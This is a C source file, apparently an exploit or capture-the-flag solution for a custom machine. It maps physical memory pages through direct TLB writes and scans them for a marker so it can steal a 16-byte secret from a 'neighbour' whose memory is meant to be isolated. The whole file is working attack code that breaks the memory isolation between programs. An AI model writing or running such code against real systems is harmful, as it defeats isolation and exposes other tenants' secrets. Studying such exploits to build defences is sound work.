/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * What is not our memory is the machine's. Our own 1 MiB hides the machine's first one, in which the
 * neighbour's page is; but all of the machine lies open beyond that, and there the loader has put both images.
 */
#include "thief.h"

uint8_t found[16];

enum { WINDOW = 0x20000000, SPACE = 7, FIRST = 0x80100000, END = 0x82000000 };

/* The word at a machine address; its page has been mapped. */
static uint32_t word(uint32_t pa)
{
    uint32_t w = 0;
    peek(WINDOW + (pa & PAGE_OFFSET), SPACE, &w);
    return w;
}

static void map(uint32_t pa)
{
    csr_write(mtlbidx, 1);
    tlbwi(WINDOW | SPACE, (pa & PAGE_FRAME) | TLB_LO_V | TLB_LO_R);
}

/* Eight words from pa on, over a page's end if need be. */
static void words_from(uint32_t pa, uint32_t words[8])
{
    for (uint32_t i = 0; i < 8; i++) {
        map(pa + 4 * i);
        words[i] = word(pa + 4 * i);
    }
}

int main(void)
{
    uint32_t words[8];
    for (uint32_t page = END - PAGE_SIZE; page >= FIRST; page -= PAGE_SIZE) {
        map(page);
        for (uint32_t i = 0; i < PAGE_SIZE; i += 4) {
            if (is_mark(word(page + i), 0)) {
                words_from(page + i, words);
                if (take(words)) {
                    return 0;
                }
                map(page);
            }
        }
    }
    return 0;
}
